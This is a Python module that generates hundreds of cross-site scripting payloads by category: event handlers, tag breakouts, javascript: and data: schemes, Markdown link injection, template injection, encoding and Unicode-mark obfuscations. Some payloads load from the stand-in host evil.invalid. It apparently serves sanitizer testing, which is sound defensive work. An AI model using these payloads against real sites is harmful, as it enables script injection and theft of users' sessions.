"""Texts that run in a browser if they are shown as anything but text: made here, by kind, not copied from a list.

Each kind is a way in which markup has been smuggled through filters and editors; what varies in it (tags, events,
quotes, encodings, schemes) is multiplied out. `payloads()` is the same list in every run. Every one that runs calls
`alert`, or fetches from another host.
"""
from html import entities

CODE = "alert(1)"
ELSEWHERE = "//evil.invalid/x"
# Elements, with what makes them act by themselves.
BY_THEMSELVES = [
    ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("body", "onpageshow"), ("input autofocus", "onfocus"),
    ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("button autofocus", "onfocus"),
    ("details open", "ontoggle"), ("video src=x", "onerror"), ("audio src=x", "onerror"), ("iframe", "onload"),
    ("object data=x", "onerror"), ("embed src=/", "onload"), ("link rel=stylesheet href=x", "onerror"),
    ("style", "onload"), ("script src=x", "onerror"), ("marquee", "onstart"), ("x-own id=x tabindex=1", "onfocus"),
    ("div contenteditable autofocus", "onfocus"), ("video poster=x", "onloadstart"), ("svg><animate attributeName=x dur=1s", "onbegin"),
]
# Events that need a touch.
TOUCHED = ["onclick", "onmouseover", "onpointerenter", "onkeydown", "onwheel", "oncopy", "onanimationstart", "ontransitionend",
           "onbeforetoggle", "onscrollend", "onfocusin", "onauxclick"]
QUOTES = ["{e}={c}", "{e}='{c}'", '{e}="{c}"', "{e}=`{c}`", "{e} = {c}", "{e}\n=\n'{c}'", "{E}={c}", "{e}\t=\"{c}\""]
SPACES = [" ", "/", "\n", "\t", "\f", "/x/"]
BREAKOUTS = ['">', "'>", "-->", "]]>", "</title>", "</textarea>", "</script>", "</style>", "</noscript>", "</option></select>",
             "</template>", "</xmp>", "</code></pre>", "</a>", "</h1>", "</p>", "\"'>", "--!>", "?>", "%>"]
ATTRIBUTES = ['" {e}={c} x="', "' {e}={c} x='", '" autofocus {e}="{c}', "x {e}={c}", '"{e}={c} ', "` {e}={c} x=`", '"\n{e}={c}\n"']
ELEMENTS = [
    "<script>{c}</script>", "<SCRIPT>{c}</SCRIPT>", "<script >{c}</script >", "<script\n>{c}</script\n>", "<scr<script>ipt>{c}</script>",
    "<script src={o}></script>", "<script/src={o}></script>", "<svg><script>{c}</script></svg>", "<math><mi//xlink:href='javascript:{c}'>",
    "<iframe src=javascript:{c}>", "<iframe srcdoc='<script>{c}</script>'>", "<iframe src={o}>", "<object data=javascript:{c}>",
    "<embed src=javascript:{c}>", "<base href={o}>", "<meta http-equiv=refresh content='0;url=javascript:{c}'>",
    "<meta http-equiv=refresh content='0;url=http:{o}'>", "<link rel=stylesheet href={o}>", "<link rel=preload as=script href={o}>",
    "<style>@import '{o}';</style>", "<style>*{{background:url({o})}}</style>", "<img src={o}>", "<img srcset={o}>", "<video poster={o}>",
    "<form action=javascript:{c}><button autofocus>x", "<form><button formaction=javascript:{c}>x", "<input type=image src={o}>",
    "<a href=javascript:{c}>x</a>", "<a href={o} ping={o}>x</a>", "<svg><a xlink:href=javascript:{c}><text>x", "<svg><use href={o}#a>",
    "<svg><set attributeName=onload to={c}>", "<template><script>{c}</script></template>", "<noscript><img src=x onerror={c}></noscript>",
    "<table background={o}>", "<body background={o}>", "<div style='background:url({o})'>x", "<p style='position:fixed;inset:0'>x",
    "<dialog open>x</dialog>", "<portal src={o}>", "<frameset onload={c}>", "<isindex action=javascript:{c}>", "<plaintext>", "<xmp>",
    "<!--><img src=x onerror={c}>-->", "<!-- --!><img src=x onerror={c}>", "<![CDATA[<img src=x onerror={c}>]]>", "<?x><img src=x onerror={c}>",
    "<!doctype x><img src=x onerror={c}>", "<//a><img src=x onerror={c}>", "<a<img src=x onerror={c}>", "<img src=x onerror={c}//", "<<img src=x onerror={c}>",
    "<img src='x' onerror='{c}' ", "<svg/onload={c}", "<math><mtext><table><mglyph><style><img src=x onerror={c}>",
    "<svg><style><img src=x onerror={c}>", "<svg></p><style><a id=\"</style><img src=x onerror={c}>\">", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={c}>",
    "<select><template shadowrootmode=open><img src=x onerror={c}>", "<button popovertarget=x>x</button><div popover id=x onbeforetoggle={c}>",
]
SCHEMES = [
    "javascript:{c}", "JaVaScRiPt:{c}", " javascript:{c}", "java\tscript:{c}", "java\nscript:{c}", "javascript&colon;{c}", "javascript&#58;{c}",
    "&#106;avascript:{c}", "&#x6A&#x61vascript:{c}", "javascript%3A{c}", "%6Aavascript:{c}", "\x01javascript:{c}", "javascript://%0A{c}", "javascript:/*--></title>*/{c}",
    "vbscript:{c}", "livescript:{c}", "data:text/html,<script>{c}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{c}'/>", "blob:{c}", "filesystem:{c}", "view-source:javascript:{c}",
    "feed:javascript:{c}", "jar:javascript:{c}", "{o}", "/\\evil.invalid/x", "\\\\evil.invalid\\x", "http:evil.invalid", "https:/evil.invalid/x", "///evil.invalid/x",
    "java&NewLine;script:{c}", "java&Tab;script:{c}", "javascript\u00a0:{c}", "\u2028javascript:{c}", "jаvascript:{c}", "ｊavascript:{c}",
]
MARKDOWN = [
    "[x]({u})", "![x]({u})", "<{u}>", "[x](<{u}>)", "[x][r]\n\n[r]: {u}", "![x][r]\n\n[r]: <{u}> \"t\"", "[x]({u} \"t\")", "[![x]({u})]({u})",
    "> [x]({u})", "- [ ] [x]({u})", "|a|\n|-|\n|[x]({u})|", "# [x]({u})", "**[x]({u})**", "[x\n]({u})",
]
# Where a text of an author's becomes a part of an attribute or of markup.
INTO_MARKDOWN = [
    '[x](/a "{t}")', "[x](/a '{t}')", "![{t}](/media/x.png)", "![x](/media/x.png \"{t}\")", "```{t}\nx\n```", "~~~ {t}\nx\n~~~", "`{t}`",
    "    {t}", "|{t}|\n|-|\n|{t}|", "|a|\n|{t}|\n|a|", "# {t}", "[{t}]: /a", "[x](/a{t})", "<https://a.example/{t}>", "https://a.example/{t}",
    "www.a.example/{t}", "a@a.example{t}", "@{t}", "[^1]: {t}", "- [x] {t}", "1. {t}", "***{t}***", "~~{t}~~", "{t}\n===", "> {t}", "\\{t}",
]
TEMPLATES = ["{{{title}}}", "{{>page}}", "{{=<% %>=}}<% title %>", "{{#each}}x{{/each}}", "${alert(1)}", "#{alert(1)}", "<%= 1 %>", "{{constructor.constructor('alert(1)')()}}",
             "{{&title}}", "{{!<img src=x onerror=alert(1)>}}", "[[constructor]]", "{%import os%}"]
MARKS = ["\u0301", "\u0338", "\u20d2", "\u200d", "\ufe0f", "\u034f", "\u0590", "\U000e0061", "\u202e", "\u2066", "\u200f", "\ufeff", "\u00ad"]
SIMPLE = ["<img src=x onerror=alert(1)>", "<script>alert(1)</script>", "\"><svg onload=alert(1)>", "' onfocus=alert(1) autofocus x='"]


def encodings(text):
    """The text as decoders that are one too many would read it."""
    yield "".join(f"&#{ord(c)};" for c in text)
    yield "".join(f"&#x{ord(c):x};" for c in text)
    yield "".join(f"&#{ord(c):07d}" for c in text)
    yield "".join(f"%{ord(c):02X}" for c in text)
    yield "".join(f"%25{ord(c):02X}" for c in text)
    yield "".join(f"\\x{ord(c):02x}" for c in text)
    yield "".join(f"\\u{ord(c):04x}" for c in text)
    yield "".join(f"\\{c}" for c in text)
    names = {number: name for number, name in entities.codepoint2name.items()}
    yield "".join(f"&{names[ord(c)]};" if ord(c) in names else c for c in text)
    yield text.replace("<", "&lt;").replace(">", "&gt;").replace("&", "&amp;")
    yield text.replace("<", "&lt").replace(">", "&gt").replace('"', "&quot").replace("'", "&#39")
    yield text.replace("<", "&LT;").replace(">", "&GT;").replace('"', "&QUOT;")
    yield text.replace("<", "＜").replace(">", "＞").replace('"', "＂")
    yield text.replace("<", "‹").replace(">", "›").replace("'", "ʼ")
    yield text.replace("<", "+ADw-").replace(">", "+AD4-").replace('"', "+ACI-")
    yield text.replace("<", "<\\").replace("on", "&#111;n")


def by_kind():
    """Each kind with all its texts."""
    fill = {"c": CODE, "o": ELSEWHERE}
    yield "an event of an element", [
        f"<{element}{space}{quote.format(e=event, E=event.upper(), c=CODE)}>"
        for element, event in BY_THEMSELVES for quote in QUOTES for space in SPACES]
    yield "an event that waits", [f"<b {quote.format(e=event, E=event.title(), c=CODE)} style=animation-name:x>x" for event in TOUCHED for quote in QUOTES]
    yield "an element", [element.format(**fill) for element in ELEMENTS]
    yield "the end of what stands around", [end + text for end in BREAKOUTS for text in SIMPLE[:3]]
    yield "the end of an attribute", [form.format(e=event, c=CODE) for form in ATTRIBUTES for event in ("onfocus", "onmouseover", "onclick")]
    yield "a scheme", [scheme.format(**fill) for scheme in SCHEMES]
    yield "a scheme in Markdown", [form.format(u=scheme.format(**fill)) for form in MARKDOWN for scheme in SCHEMES]
    yield "a text in Markdown", [form.format(t=text) for form in INTO_MARKDOWN for text in SIMPLE + ['" onmouseover=alert(1) "', "](javascript:alert(1))"]]
    yield "an encoding", [text for simple in SIMPLE + ["javascript:alert(1)"] for text in encodings(simple)]
    yield "a template", TEMPLATES
    # Swift compares characters: a mark on a sign is another one.
    yield "a mark on a sign", ["".join(c + mark if c in signs else c for c in text)
                               for text in SIMPLE for mark in MARKS for signs in ("<", "<>\"'", "&<=")]
    yield "a mark in a name", [text.replace("on", f"o{mark}n").replace("scr", f"s{mark}cr") for text in SIMPLE for mark in MARKS]


def payloads():
    """All of them, each once, with its kind."""
    seen = set()
    for kind, texts in by_kind():
        for text in texts:
            if text not in seen:
                seen.add(text)
                yield kind, text


def sample(count):
    """About so many, some of each kind."""
    everything, kinds = list(payloads()), {}
    for kind, text in everything:
        kinds.setdefault(kind, []).append(text)
    share = -(-count // len(kinds))
    # Spread over each kind by a step that divides none of its variations.
    return [(kind, text) for kind, texts in kinds.items() for text in (texts if len(texts) <= share else texts[::max(1, len(texts) // share)][:share])]


if __name__ == "__main__":
    print(sum(1 for _ in payloads()))
